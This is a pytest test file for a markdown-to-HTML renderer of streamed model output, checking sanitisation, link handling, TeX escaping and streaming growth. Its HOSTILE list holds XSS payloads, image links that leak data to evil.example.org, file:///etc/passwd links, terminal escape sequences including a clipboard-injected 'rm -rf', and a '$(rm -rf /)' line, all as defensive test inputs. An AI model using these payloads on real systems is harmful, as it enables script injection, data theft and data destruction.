"""Model text to HTML: harmless at every streamed prefix, right for honest text."""

import re
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from glm_magic.render.clean import clean_text
from glm_magic.render.definitions import References
from glm_magic.render.growth import MarkdownGrowth, Step, finished_length
from glm_magic.render.links import parse_link
from glm_magic.render.markdown import render_markdown, render_plain
from glm_magic.render.parser import parser
from glm_magic.render.sanitizer import sanitizer

PROJECT = Path(__file__).parents[2]

SOURCES = {1: "https://one.example.org/a", 2: "javascript:alert(1)", 3: "https://例え.jp/"}
REL = 'rel="noopener noreferrer nofollow" target="_blank"'

HOSTILE = [
    # XSS classics
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><math><mtext></mtext></math>",
    '"><iframe srcdoc="<script>parent.x()</script>"></iframe>',
    "<a href='javascript:alert(1)' onclick=x>click</a>",
    "<style>*{position:fixed}</style><div style='inset:0'>",
    "<button data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>",
    "<form action=//evil.example><input name=id id=id></form>",
    "<!--><script>x</script>--><![CDATA[<script>x</script>]]><?php x ?><!DOCTYPE x>",
    "<![CDATA[" * 12,
    "</div></td></tr></table></pre></code></p></body></html><script>",
    "- a\n</li></ul></div>\n- b",
    "`</code><script>x</script>`",
    "```\n</code></pre><script>x</script>\n```",
    '```x" onload="alert(1)\ny\n```',
    "```<script>\ny\n```",
    "~~~py class=x id=y\nprint()\n~~~",
    "&lt;script&gt;x&lt;/script&gt; &#60;img src=x&#62; &#x3c;b&#x3e;",
    # schemes
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#9;script&colon;alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](vscode://x) [d](ms-msdt:/id) [e](command:x)",
    "<javascript:alert(1)> <vscode://x> <data:text/html,x> <smb://a.example.org/x>",
    "<me@example.org> <http://example.org> <mailto:me@example.org>",
    # where links lead
    "[a](//evil.example/x) [b](/hub/logout) [c](?token=1) [d](#x) [e](api/kernels)",
    r"[a](https:\\evil.example) [b](/\evil.example) [c](https://a.org\@b.org)",
    "[a](http://localhost:8888/lab) [b](http://127.0.0.1) [c](http://2130706433) [d](http://[::1])",
    "[bank.example.com](https://evil.example.org) [a](https://bank.com@evil.example.org)",
    "<https://аррӏе.com> [x](https://аррӏе.com)",
    '[a](https://example.org "title onmouseover=x") [b]()[c](<>) [](https://example.org)',
    '[a](https://example.org/"onmouseover="alert(1)) [b](https://example.org/?a=1&b=<2>)',
    "[a [b](https://b.org) c](https://c.org) [x <https://d.org> y](https://e.org)",
    "https://plain.example.org/ www.example.org me@example.org",
    # images
    "![alt](https://evil.example.org/p.png?data=secret)",
    '![alt](https://evil.example.org/p.png "title")![](https://evil.example.org/x)',
    "![a][ref]\n\n[ref]: https://evil.example.org/x.png",
    "[![alt](https://evil.example.org/x.png)](https://evil.example.org)",
    '![<img src=x>](https://evil.example.org) ![a](data:image/svg+xml,x) ![" onerror="x](x)',
    "![![![a](https://a.org)](https://b.org)](https://c.org)",
    "![[ref_1]](https://a.org) [[ref_1]](https://a.org) [ref_1](https://a.org)",
    # references
    "[a]: javascript:alert(1)\n[a] [a][] [x][a]",
    "[a]: https://example.org/" + "u" * 100 + "\n\n" + "[a]" * 30,
    '[a]: https://example.org "" onclick=x"\n[b]: https://b.org (<script>)\n\n[a] ![x][b] [b][]',
    "![p][i]\n\n[i]: https://evil.example.org/p.png?data=x\n[i]: https://other.example.org/",
    "[a]: <https://a@b.org>\n[b]: http://127.0.0.1/\n[c]: https://c.org/\u202e\n[a][b] [c]",
    # footnotes and tasks
    "x[^1] y[^<b>] z[^9]\n\n[^1]: <script>a</script>\n[^<b>]: ![x](https://e.org/x)\n[^3]: - b",
    "[^" * 20 + "]\n\n[^a]: [^b]: [^c]: [^a]\n    > [^d]: x",
    '- [ ] <img src=x>\n- [x] "onclick=x\n- [X] [ref_1]\n1. [ ]\n- [x]`a`',
    # code in colours
    "```html\n<script>alert(1)</script><img src=x onerror='a'>\n```",
    "```js\nx = `</code></pre><script>${y}` // \u202e\n```\n```diff\n-<b>\n+</span>\n```",
    "```bash\necho $HOME $$ $(rm -rf /) $'\\x1b'\n```\n```tex\n\\href{javascript:x}{y} $x$\n```",
    "[ref_1] [ref_2] [ref_3] [ref_9] 【ref_1】 ref_1 [ref_99999999999999999999]",
    # invisible text and terminals
    "\u202e[gpj.exe](https://evil.example.org/\u202e)\u2066x\u2069 &#x202e;y &#8238;z",
    "a\U000e0001\U000e0069\U000e006e b\ufe0f\ufe0f\ufe0e &#xe0041;",
    "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\ \x1b[31mred \x9b0m &#27;[31m &#x9b;1m",
    "\x1b]52;c;cm0gLXJmIH4=\x07\x00\x08\r\ud83d \udc00x",
    # TeX
    r"\href{javascript:alert(1)}{x} \unicode{x41} $\style{position:fixed}{x}$",
    r"$$\class{jp-Button}{x} \cssId{a}{b} \data{x}{y}$$ \(\require{html}\) \[\def\x{y}\]",
    r"\\(\htmlClass{a}{b}\\) \\[\newcommand{\frac}{0}\\] $a$\let\b\c$d$ &bsol;href{a}{b}",
    "# \\gdef\\x{}\n\n| \\url{x} |\n|---|\n| $\\mmlToken{mi}[href='javascript:x']{x}$ |",
    r"[\includegraphics{x}](https://example.org) ![\bbox[red]{x}](https://example.org/)",
    "\\hr\u202eef{x} \\hr&#x202e;ef{x} \\\\href{x} $x \\href$ y$",
    "$$\n\\toggle{a}{b}\\endtoggle\n- x\n$$",
    # mermaid
    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]-->B; click A "javascript:x"\n```',
    "~~~ mermaid\n%%{init: {'securityLevel': 'loose'}}%%\n~~~",
    # nested and unclosed
    "> " * 30 + "x\n\n" + "- " * 20 + "y",
    "".join("  " * depth + f"- {depth}\n" for depth in range(16)),
    "**_~~[a](https://a.org`" * 5,
    "[" * 40 + "](https://a.org)" * 40,
    "```\n" + "> ```\n" * 5,
    # tables
    "|a|b|\n|-|-|\n|<td onclick=x>|</table><script>|\n|`|`|\\||",
    "|" + "a|" * 110 + "\n|" + "-|" * 110 + "\n|1|",
]

BARE = {
    "blockquote",
    "br",
    "em",
    "hr",
    "li",
    "p",
    "pre",
    "s",
    "small",
    "span",
    "strong",
    "sup",
    "ul",
}
BARE |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "tbody", "thead", "tr"}
ATTRIBUTES = {
    "a": {"href", "rel", "target"},
    "code": {"class"},
    "li": {"class"},
    "ol": {"start"},
    "pre": {"class"},
    "span": {"class"},
    "td": {"align", "nowrap"},
    "th": {"align", "nowrap", "scope"},
}
# Our own words, and those of Pygments: one to three letters, sometimes with a number.
CLASSES = {
    "code": r"language-[\w+#.-]{1,30}",
    "li": "task-list-item",
    "pre": "highlight",
    "span": r"[a-z]{1,3}1?2?",
}


def elements(html: str) -> Iterator[Element]:
    """Return what a browser would make of the fragment, as it stands between other things."""
    fragment = html5lib.parseFragment(html, namespaceHTMLElements=False)
    yield from (element for element in fragment.iter() if element is not fragment)


def text_of(html: str) -> str:
    return "".join(html5lib.parseFragment(html, namespaceHTMLElements=False).itertext())


def assert_harmless(html: str) -> None:
    for element in elements(html):
        assert isinstance(element.tag, str), "a comment"
        assert element.tag in BARE | set(ATTRIBUTES)
        assert set(element.attrib) <= ATTRIBUTES.get(element.tag, set())
        if element.tag == "a":
            assert parse_link(element.attrib["href"]) is not None
            assert element.attrib["rel"] == "noopener noreferrer nofollow"
        if "class" in element.attrib:
            assert re.fullmatch(CLASSES[element.tag], element.attrib["class"])


def assert_untypeset(html: str) -> None:
    """Assert that no command a typesetter must not see stands outside of code."""
    for code in re.findall("<code.*?</code>", html, re.DOTALL):
        html = html.replace(code, "")
    assert not re.search(r"\\(href|url|class|def|let|style|unicode|data|require|html)\b", html)


@pytest.mark.parametrize("text", HOSTILE)
def test_every_prefix_of_a_hostile_text_is_harmless(text: str) -> None:
    for cut in range(len(text) + 1):
        html = render_markdown(text[:cut], SOURCES)
        assert_harmless(html)
        assert_untypeset(html)


@given(st.lists(st.sampled_from(HOSTILE), max_size=3), st.integers(0, 40))
@settings(deadline=None, max_examples=50)
def test_hostile_texts_in_a_row_are_harmless(texts: list[str], cut: int) -> None:
    assert_harmless(render_markdown("\n".join(texts)[cut:], SOURCES))


@pytest.mark.parametrize("text", HOSTILE)
def test_output_is_balanced(text: str) -> None:
    page = f"<table><tr><td><div>{render_markdown(text, SOURCES)}</div></td></tr></table><hr>"
    last = list(html5lib.parseFragment(page, namespaceHTMLElements=False))[-1]
    assert last.tag == "hr"


@pytest.mark.parametrize("text", HOSTILE)
def test_the_second_wall_finds_nothing_to_remove(text: str) -> None:
    assert unsanitized(text, SOURCES) == render_markdown(text, SOURCES)


def test_the_second_wall_holds_alone() -> None:
    html = (
        '<p id="a" style="top:0" onclick="x" data-y="z" class="c">a<img src="x"><svg></svg>'
        '<a href="javascript:x" name="n">b</a><a href="/hub">c</a><code class="language-py">d'
        '</code><code class="language-py evil">e</code></p><script>f</script>'
    )
    assert sanitizer().clean(html) == (
        '<p>a<a>b</a><a>c</a><code class="language-py">d</code><code>e</code></p>'
    )


def test_importing_is_cheap() -> None:
    program = (
        "import sys, glm_magic.render.markdown; print({'markdown_it', 'nh3'} & set(sys.modules))"
    )
    shown = subprocess.run([sys.executable, "-c", program], capture_output=True, cwd=PROJECT)
    assert shown.stdout.decode().strip() == "set()"


def unsanitized(text: str, links: dict[int, str]) -> str:
    env = {"links": links, "references": References(), "coloured": True}
    return str(parser().render(clean_text(text), env))


ENGLAND = "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"

BENIGN = [
    ("", ""),
    ("你好，**世界**。", "<p>你好，<strong>世界</strong>。</p>\n"),
    ("مرحبا *بالعالم*", "<p>مرحبا <em>بالعالم</em></p>\n"),
    ("می\u200cخواهم 🇨🇳 👩\u200d👩\u200d👧", "<p>می\u200cخواهم 🇨🇳 👩\u200d👩\u200d👧</p>\n"),
    (ENGLAND, f"<p>{ENGLAND}</p>\n"),
    ('He said "it\'s 1 < 2 & so"', '<p>He said "it\'s 1 &lt; 2 &amp; so"</p>\n'),
    ("a  \nb\\\nc\nd", "<p>a<br>\nb<br>\nc\nd</p>\n"),
    ("# A\n\n---\n\n> q", "<h1>A</h1>\n<hr>\n<blockquote>\n<p>q</p>\n</blockquote>\n"),
    ("~~a~~ `b < c`", "<p><s>a</s> <code>b &lt; c</code></p>\n"),
    (
        "```c++\nif (a < b);\n```",
        '<pre class="highlight"><code class="language-c++"><span class="k">if</span> (a '
        '<span class="o">&lt;</span> b);\n</code></pre>\n',
    ),
    (
        "```brand-new\na < b\n```",
        '<pre class="highlight"><code class="language-brand-new">a &lt; b\n</code></pre>\n',
    ),
    (
        "- [ ] a\n- [x] **b**\n- [y] c",
        (
            '<ul>\n<li class="task-list-item">☐ a</li>\n<li class="task-list-item">☑ '
            "<strong>b</strong></li>\n<li>[y] c</li>\n</ul>\n"
        ),
    ),
    (
        "a[^1] b[^2]\n\n[^1]: *Note*.\n",
        "<p>a<sup>[1]</sup> b[^2]</p>\n<p><sup>[1]</sup> <em>Note</em>.</p>\n",
    ),
    (
        "[a] [b][A] [c]\n\n[a]: https://a.example.org/x\n[d]: https://d.example.org\n",
        f'<p><a href="https://a.example.org/x" {REL}>a</a> <small>(a.example.org)</small> '
        f'<a href="https://a.example.org/x" {REL}>b</a> <small>(a.example.org)</small> [c]</p>\n'
        "<p>[d]: https://d.example.org</p>\n",
    ),
    ("```{python}\n1\n```", '<pre class="highlight"><code>1\n</code></pre>\n'),
    ("    four\n", '<pre class="highlight"><code>four\n</code></pre>\n'),
    (
        "- a\n  1. b\n  2. c\n- d",
        "<ul>\n<li>a\n<ol>\n<li>b</li>\n<li>c</li>\n</ol>\n</li>\n<li>d</li>\n</ul>\n",
    ),
    ("3. c\n\n4. d", '<ol start="3">\n<li>\n<p>c</p>\n</li>\n<li>\n<p>d</p>\n</li>\n</ol>\n'),
    (
        "| a | b |\n|---|--:|\n| 1 | x\\|y |",
        '<table>\n<thead>\n<tr>\n<th scope="col" nowrap="">a</th>\n'
        '<th scope="col" align="right" nowrap="">b</th>\n</tr>\n</thead>\n'
        '<tbody>\n<tr>\n<td nowrap="">1</td>\n<td align="right" nowrap="">x|y</td>\n</tr>\n'
        "</tbody>\n</table>\n",
    ),
    (
        "|春耕备耕有序推进|春耕备耕有序推进了|\n|-|-|",
        '<table>\n<thead>\n<tr>\n<th scope="col" nowrap="">春耕备耕有序推进</th>\n'
        '<th scope="col">春耕备耕有序推进了</th>\n</tr>\n</thead>\n</table>\n',
    ),
    (
        "[docs](https://example.org/a?b=1&c=2)",
        f'<p><a href="https://example.org/a?b=1&amp;c=2" {REL}>docs</a>'
        " <small>(example.org)</small></p>\n",
    ),
    (
        "<https://example.org>",
        f'<p><a href="https://example.org/" {REL}>https://example.org</a></p>\n',
    ),
]


@pytest.mark.parametrize(("text", "html"), BENIGN)
def test_honest_text_renders_as_expected(text: str, html: str) -> None:
    assert render_markdown(text) == html


@pytest.mark.parametrize("text", [text for text, _ in BENIGN])
def test_the_second_wall_leaves_honest_text_alone(text: str) -> None:
    assert unsanitized(text, {}) == render_markdown(text)


@pytest.mark.parametrize(
    "text",
    [
        "[a](javascript:alert(1))",
        "[a](http://localhost:8888/lab)",
        "[a](/hub/logout)",
        "![a](data:image/png;base64,AAAA)",
        "<vscode://x>",
        "<http://example.org>",
        "https://example.org",
        "[a]: https://example.org",
        "<b>bold</b>",
        "<!-- comment -->",
    ],
)
def test_what_is_refused_stays_as_it_was_written(text: str) -> None:
    assert text_of(render_markdown(text)).strip() == text


def test_the_host_stands_beside_every_other_label() -> None:
    html = render_markdown("[https://bank.example.com](https://例え.jp/)")
    assert text_of(html) == "https://bank.example.com (xn--r8jz45g.jp)\n"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![a cat](https://cats.example.org/1.png)", "[image: a cat (cats.example.org)]"),
        ("![](https://cats.example.org/1.png)", "[image: (cats.example.org)]"),
        ("![a]()", "[image: a]"),
    ],
)
def test_an_image_becomes_its_text_with_its_host(text: str, shown: str) -> None:
    assert render_markdown(text) == f"<p>{shown}</p>\n"


@pytest.mark.parametrize("mark", ["[ref_1]", "【ref_1】", "ref_1", "[ref\\_1]", "[&#114;ef_1]"])
def test_a_mark_becomes_a_link_to_its_source(mark: str) -> None:
    assert render_markdown(f"So {mark}.", SOURCES) == (
        f'<p>So <a href="https://one.example.org/a" {REL}>[1]</a>'
        " <small>(one.example.org)</small>.</p>\n"
    )


@pytest.mark.parametrize("text", ["[ref_9]", "ref_12345", "pref_1", "ref_1_a", "ref_1a", "x/ref_1"])
def test_a_mark_without_a_good_source_stays(text: str) -> None:
    assert render_markdown(text, SOURCES) == f"<p>{text}</p>\n"


def test_a_mark_of_a_source_without_a_good_link_is_its_number() -> None:
    assert render_markdown("So [ref_2].", SOURCES) == "<p>So [2].</p>\n"


def test_marks_in_code_and_links_stay() -> None:
    html = render_markdown("`[ref_1]` [see ref_1](https://a.example.org)\n\n    ref_1", SOURCES)
    assert "one.example.org" not in html


@pytest.mark.parametrize(
    "formula",
    [
        "$a_1*b*c_2$",
        r"$\{1\}$",
        r"\(a_1 * b * c\)",
        r"\[ \begin{matrix} a \\[2pt] b \end{matrix} \]",
        "$$\nx\n- y\n= z\n# w\n$$",
        "\\[\na\n\n\\]".replace("\n\n", "\n* b\n"),
    ],
)
def test_formulas_reach_the_typesetter_as_they_were_written(formula: str) -> None:
    assert render_markdown(f"Thus\n{formula}\n").count(formula) == 1


def test_prices_are_no_formulas() -> None:
    html = render_markdown("from $5 to **$10**")
    assert html == ("<p>from <span>$</span>5 to <strong><span>$</span>10</strong></p>\n")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (r"a \href{x}{y}", r"<p>a <code>\href</code>{x}{y}</p>"),
        (r"$\href{x}{y}$", r"<p><code>$\href{x}{y}$</code></p>"),
        (r"\(\style{x}{y}\)", r"<p><code>\(\style{x}{y}\)</code></p>"),
        (r"\\(\def\x{}\\)", r"<p>\(<code>\def</code>\x{}\)</p>"),
        (r"# \url{x}", r"<h1><code>\url</code>{x}</h1>"),
        (r"&#92;hre&#x66;{x}", r"<p><code>\href</code>{x}</p>"),
        ("\\hr&#x202e;ef{x}", r"<p><code>\href</code>{x}</p>"),
        (r"\hrefs \defn \letter \classes", r"<p>\hrefs \defn \letter \classes</p>"),
    ],
)
def test_tex_that_does_more_than_typeset_is_shown_as_code(text: str, html: str) -> None:
    assert render_markdown(text) == html + "\n"


def test_tex_is_code_in_cells_and_labels_too() -> None:
    html = render_markdown("| \\def |\n|--|\n| [\\let](https://a.example.org) |")
    assert r'<th scope="col" nowrap=""><code>\def</code></th>' in html
    assert r"<code>\let</code></a>" in html


def test_nothing_is_lost_however_deep_it_lies() -> None:
    lists = "".join("  " * depth + f"- item {depth}\n" for depth in range(30))
    shown = text_of(render_markdown("> " * 50 + "quoted\n\n" + lists))
    assert "quoted" in shown
    assert [int(number) for number in re.findall(r"item (\d+)", shown)] == list(range(30))


def test_a_table_of_too_many_columns_is_shown_as_it_was_written() -> None:
    table = f"|{'a|' * 101}\n|{'-|' * 101}\n|1|\n"
    assert (
        render_markdown(f"x\n\n{table}\ny")
        == f'<p>x</p>\n<pre class="highlight"><code>{table}</code></pre>\n<p>y</p>\n'
    )
    assert render_markdown(
        table.replace("a|" * 101, "a|" * 100).replace("-|" * 101, "-|" * 100)
    ).startswith("<table>")


def test_a_table_that_fills_up_its_rows_is_shown_as_it_was_written() -> None:
    table = f"|{'a|' * 90}\n|{'-|' * 90}\n" + "|1|\n" * 200
    assert render_markdown(table) == f'<pre class="highlight"><code>{table}</code></pre>\n'


def test_references_that_expand_out_of_all_proportion_stay_as_they_were_written() -> None:
    text = f"[a]: https://example.org/{'u' * 3000}\n\n{'[a] ' * 40}"
    assert "<a href" not in render_markdown(text)
    assert text_of(render_markdown(text)).split() == text.split()
    assert render_markdown(text[:-40]).count("<a href") == 30


def test_the_same_reference_twice_holds_as_it_was_first_and_shows_the_other() -> None:
    html = render_markdown("[a]: https://one.org/\n[a]: https://two.org/\n\n[a]\n")
    assert text_of(html).split("\n") == ["[a]: https://two.org/", "a (one.org)", ""]


def test_a_table_with_more_cells_than_its_head_is_shown_as_it_was_written() -> None:
    table = "| a | b |\n|--|--|\n| x | y | LOST |\n"
    assert render_markdown(table) == f'<pre class="highlight"><code>{table}</code></pre>\n'
    for fine in ("| x | y |", "x | y", "| x | y |  |", "| x | y\\| |", "| x |"):
        assert "<table>" in render_markdown(f"| a | b |\n|--|--|\n{fine}\n")


def test_a_text_of_excessive_length_is_shown_plain() -> None:
    text = "**a**" + "x" * 299_995
    assert render_markdown(text).startswith("<p><strong>a</strong>xx")
    assert render_markdown(text + "x") == render_plain(text + "x")


def test_plain_text_is_escaped_cleaned_and_wraps() -> None:
    assert render_plain("\n<b>\x1b[0m\r\n$x$") == (
        '<pre style="margin: 0; white-space: pre-wrap; overflow-wrap: anywhere; '
        'word-break: normal">\n\n&lt;b&gt;\n$x$</pre>'
    )


def test_long_plain_text_is_cut_into_blocks_that_a_browser_may_skip_and_loses_nothing() -> None:
    text = "".join(f"line {n} & more\n" for n in range(5_000))
    html = render_plain(text)
    assert html.count("content-visibility: auto") == html.count("<pre") == 13
    assert text_of(html) == text


@pytest.mark.parametrize(
    ("text", "finished"),
    [
        ("", ""),
        ("a\n\n", ""),
        ("a\n\nb", ""),  # what the line is, shows at its end
        ("a\n\nb\n", "a\n\n"),
        ("a\r\n\r\nb\r", ""),  # an LF may follow
        ("a\r\n\r\nb\r\n", "a\r\n\r\n"),
        ("a\u2028\u2028b\u2028", "a\u2028\u2028"),
        ("# a\nb\n", "# a\n"),
        ("a\n===\n", ""),
        ("- a\n\n- b\n", ""),
        ("- a\n\n  b\n", ""),
        ("- a\n\n    code\n", ""),
        ("- a\n\nb\n", "- a\n\n"),
        ("> a\nlazy\n", ""),
        ("|a|\n|-|\n|1|\n", ""),
        ("|a|\n|-|\n|1|\n\nx\n", "|a|\n|-|\n|1|\n\n"),
        ("```\na\n\n# b\n", ""),
        ("```\na\n```\nb\n", "```\na\n```\n"),
        ("x\n\n```\na\n```\n", "x\n\n```\na\n```\n"),
        ("~~~~\na\n~~~\n", ""),
        ("```\na\n\t```\n", ""),
        ("```\na\n```\u3000\n", ""),
        ("```\na\n   ``` \t\n", "```\na\n   ``` \t\n"),
        ("```\n```", ""),
        ("- ```\n  a\n  ```\n", ""),
        ("$$\na\n- b\n", ""),
        ("a\n$$\nb\n$$\nc\n", "a\n$$\nb\n$$\n"),
        ("[a]: https://example.org\n\nb\n", "[a]: https://example.org\n\n"),
    ],
)
def test_all_blocks_but_the_last_are_finished(text: str, finished: str) -> None:
    assert text[: finished_length(text)] == finished


# Whatever begins, ends, continues or spoils a block, and line ends of each kind.
PIECES = st.one_of(
    st.sampled_from(["a", "b ", "x\n", "\n", "\n\n", "\r\n", "\r", "\u2028", "\t", "  ", "    "]),
    st.sampled_from(
        ["- ", "* ", "+", "1. ", "2) ", "1.\n", "-\n", "> ", "# h\n", "---\n", "===\n"]
    ),
    st.sampled_from(["```\n", "```py\n", "~~~\n", "`", "**", "[", "]", "<div>\n", "<!--", "&#10;"]),
    st.sampled_from(["|", "| a | b |\n", "|---|---|\n", "| a | b |\n|---|---|\n| 1 |\n"]),
    st.sampled_from(["$$\n", "$$", "$$\n- a\n$$\n", "\\[\n", "\\]\n", "$x$"]),
    st.sampled_from(["[ref_1]", "ref\\_1", "[a](https://a.org)", "[a]: b\n", "\t```\n", "\u3000"]),
    st.sampled_from(["[a]: https://a.org\n", "[^1]: x\n", "[^1]", "- [ ] x\n"]),
    st.sampled_from(["\x1b]8;;", "\x07", "\ud83d", "\ude00"]),
)


@given(st.lists(PIECES, max_size=30).map("".join), st.lists(st.integers(1, 9), min_size=1))
@settings(deadline=None, max_examples=400)
def test_the_final_render_is_that_of_the_whole_text_however_it_came(
    text: str, sizes: list[int]
) -> None:
    growth, _ = grown(text, sizes)
    assert growth.whole(text, SOURCES) == render_markdown(text, SOURCES)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_harmless_at_every_step_of_its_growth(text: str) -> None:
    growth, steps = grown(text, [1])
    for step in steps:
        assert_harmless(step.finished)
        assert_harmless(step.tail)
        assert_untypeset(step.finished + step.tail)
    assert growth.whole(text, SOURCES) == render_markdown(text, SOURCES)


def test_a_finished_block_is_rendered_once() -> None:
    text = "one\n\ntwo\n\n- three\n- four\n\n```py\nfive\n```\nsix"
    _, steps = grown(text, [1])
    finished = [text_of(step.finished).strip() for step in steps if step.finished]
    assert finished == ["one", "two", "three\nfour", "five"]
    assert text_of(steps[-1].tail) == "six\n"


def grown(text: str, sizes: list[int]) -> tuple[MarkdownGrowth, list[Step]]:
    """Let `text` grow as it arrives in pieces of `sizes`; return the growth and its steps."""
    growth, steps, start, turn = MarkdownGrowth(), [], 0, 0
    while start < len(text):
        size = sizes[turn % len(sizes)]
        growth.add(text[start : start + size])
        start, turn = start + size, turn + 1
        steps.append(growth.step())
    return growth, steps


@pytest.mark.parametrize(
    "part",
    ["[", "![a](", r"\(", r"\[\(", "$a", "$$a\n", "<![CDATA[", "*a **b ", "> ", "|1\n", "\x1b]"],
)
def test_twice_the_text_takes_about_twice_the_time(part: str) -> None:
    once, twice = part * (8_000 // len(part)), part * (16_000 // len(part))
    # A quadratic rule would need four times as long; the floor is for timers and caches.
    assert seconds(render_markdown, twice) < 3.3 * max(seconds(render_markdown, once), 0.02)


def seconds(render: Callable[[str], str], text: str) -> float:
    """Return the least CPU time of three runs."""
    times = []
    for _ in range(3):
        start = time.process_time()
        render(text)
        times.append(time.process_time() - start)
    return min(times)
